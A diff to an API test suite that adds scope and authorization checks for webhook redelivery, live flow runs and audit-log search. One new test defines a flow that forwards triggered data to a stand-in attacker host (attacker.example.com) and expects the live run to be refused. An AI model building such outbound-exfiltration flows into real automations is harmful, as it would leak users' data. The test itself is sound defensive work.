@@ -195,6 +195,9 @@ describe('webhook subscriptions and scopes', () => {
       'a delivery to list',
     );
     expect(deliveries.body.results[0].payload).toEqual({ withheld: 'needs invoices:read' });
+    const redelivered = await hooksOnly.post(`/api/automation/webhooks/deliveries/${deliveries.body.results[0].id}/redeliver/`);
+    expect(redelivered.status).toBe(202);
+    expect(redelivered.body.payload).toEqual({ withheld: 'needs invoices:read' });
     expect(JSON.stringify(deliveries.body)).not.toContain('Secret work');
     const full = (await org.api.get(`/api/automation/webhooks/${hook.id}/deliveries/`)).body.results[0];
     expect(full.payload).toMatchObject({ type: 'INVOICE_CREATED' });
@@ -217,6 +220,20 @@ describe('flows and the data their triggers carry', () => {
     const allowed = await reader.post('/api/automation/flows/', { name: 'Out', mode: 'automation', graph, is_active: true });
     expect(allowed.status).toBe(201);
     await org.api.patch(`/api/automation/flows/${allowed.body.id}/`, { is_active: false });
+  });
+
+  it('refuse a live test run whose context names an invoice the key cannot read (the run reads it afresh)', async () => {
+    const graph = {
+      nodes: [node('t', 'trigger.task_created'), node('out', 'send_to_platform', { url: 'https://attacker.example.com/' })],
+      connections: [link('t', 'out')],
+    };
+    const flow = (await org.api.post('/api/automation/flows/', { name: 'Reads', mode: 'automation', graph })).body;
+    const tasksOnly = await keyWith('flows:write', 'webhooks:write', 'tasks:read');
+    const live = await tasksOnly.post(`/api/automation/flows/${flow.id}/run/`, { context: { invoice: { id: 1 } }, live: true });
+    expect(live.status).toBe(403);
+    expect(live.body.detail).toContain('invoices:read');
+    // Simulated, it reads nothing afresh and posts nothing.
+    expect((await tasksOnly.post(`/api/automation/flows/${flow.id}/run/`, { context: { invoice: { id: 1 } } })).status).toBe(200);
   });
 });
 
@@ -254,5 +271,8 @@ describe('the audit log and scopes', () => {
     expect(mails.length).toBeGreaterThan(0);
     expect(JSON.stringify(mails)).not.toMatch(/secret-client|Secret subject/);
     expect(mails[0].url).toBe('mailto:[withheld]');
+    // Nor is search a yes-or-no answer about what is withheld.
+    expect((await logsOnly.get('/api/automation/logs/?kind=email&search=secret-client')).body.count).toBe(0);
+    expect((await org.api.get('/api/automation/logs/?kind=email&search=secret-client')).body.count).toBeGreaterThan(0);
   });
 });
